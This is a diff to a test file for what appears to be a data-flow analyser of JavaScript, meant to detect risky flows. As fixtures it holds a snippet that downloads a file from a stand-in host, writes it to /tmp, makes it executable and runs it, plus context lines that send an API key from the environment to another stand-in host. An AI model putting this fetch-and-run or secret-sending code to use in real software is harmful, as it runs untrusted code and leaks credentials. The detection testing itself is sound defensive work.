@@ -301,3 +301,20 @@ def test_what_a_program_or_a_file_api_is_given_besides_its_data_is_no_flow() -> 
               'fs.appendFileSync("/tmp/log", process.env.API_KEY);\n')
     assert flows(source) == {("env.read(API_KEY)", 5, "net.connect(q.example.org)", 5, ()),
                              ("env.read(API_KEY)", 6, "fs.write(/tmp/log)", 6, ())}
+
+
+def test_a_response_piped_into_a_file_then_run() -> None:
+    source = ('const https = require("https");\n'
+              'const fs = require("fs");\n'
+              'const { execSync } = require("child_process");\n'
+              'const dest = "/tmp/agent";\n'
+              'https.get("https://r.example.org/agent", res => {\n'
+              '  res.pipe(fs.createWriteStream(dest));\n'
+              '  res.on("end", () => execSync(`chmod +x ${dest} && ${dest}`));\n'
+              '});\n')
+    received = ((5, "passed to get() callback as res"),
+                (6, "piped into fs.createWriteStream(dest)"))
+    assert flows(source) == {
+        ("net.connect(r.example.org)", 5, "fs.write(/tmp/agent)", 6, received),
+        ("net.connect(r.example.org)", 5, "code.dynamic(download)", 7,
+         (*received, (6, "written to /tmp/agent")))}
